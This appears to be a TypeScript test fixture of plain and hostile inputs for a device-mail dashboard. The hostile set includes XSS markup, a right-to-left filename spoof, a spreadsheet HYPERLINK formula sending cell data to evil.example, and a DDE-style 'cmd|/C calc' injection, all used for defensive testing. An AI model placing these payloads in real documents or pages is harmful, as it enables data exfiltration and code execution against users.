/** What strangers and owners write, wherever a page shows it. */
export interface Words {
  /** What devices write as the subject of their mails; longer than what the edge keeps is cut. */
  subjects: readonly string[];
  devices: readonly string[];
  sites: readonly string[];
  /** Of EHLO. */
  hello: string;
  /** The envelope's sender. */
  mailFrom: string;
  /** Of the provider, about a refusal. */
  said: string;
  /** A recipient that a device writes to. */
  recipient: string;
  /** A line that a device said. */
  line: string;
}

/** As in a household with a shop. */
export const PLAIN_WORDS: Words = {
  subjects: [
    '動体検知：玄関',
    'Motion Detected from reolink-a at 2026/5/31 06:21:33',
    '[NVR] ディスクの残り容量が少なくなっています',
  ],
  devices: ['玄関カメラ', '駐車場カメラ', '複合機', 'UPS', '倉庫の録画機', 'ホームゲートウェイ', '裏口カメラ'],
  sites: ['新宿店', '本社 2 階'],
  hello: 'IPCAMERA',
  mailFrom: 'camera@example.com',
  said: 'The message was refused: ErrorInvalidRecipients: At least one recipient is not valid.',
  recipient: 'tanaka@example.co.jp',
  line: 'EHLO IPCAMERA',
};

const MARKUP = `<img src=x onerror="window.wasRun=1"><script>window.wasRun=1</script><svg/onload=window.wasRun=1>`;
/** Turns what follows around, where nothing stops it; ends nothing that it began. */
const TURNED = '\u202Egpj.tnemyap\u2067\u2066 exe';
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
const PLACEHOLDERS = '{count, plural, other {#}} %s {{7*7}} {name} <b>';
const ENDLESS = 'W'.repeat(10_000);

/** Of a stranger who wants the pages to run, break or lie. What is too long is cut where a device's words are: 998 characters of a subject, 255 of a name. */
export const HOSTILE_WORDS: Words = {
  subjects: [MARKUP, TURNED, FORMULA, ENDLESS.slice(0, 998), PLACEHOLDERS, `\u200B\u0300${'\u0301'.repeat(300)}`],
  devices: [
    MARKUP.slice(0, 80),
    TURNED,
    FORMULA,
    ENDLESS.slice(0, 80),
    PLACEHOLDERS.slice(0, 80),
    '"><script>window.wasRun=1</script>',
    '@SUM(1+1)*cmd|/C calc',
  ],
  sites: ['<b onmouseover=window.wasRun=1>店</b>', ENDLESS.slice(0, 80)],
  hello: `${MARKUP}${ENDLESS}`.slice(0, 255),
  mailFrom: '"<script>window.wasRun=1</script>"@example.com',
  said: `${MARKUP}${TURNED}${ENDLESS}`.slice(0, 500),
  recipient: `${'w'.repeat(60)}@${'w'.repeat(60)}.example.com`,
  line: `EHLO ${MARKUP}${ENDLESS}`.slice(0, 260),
};
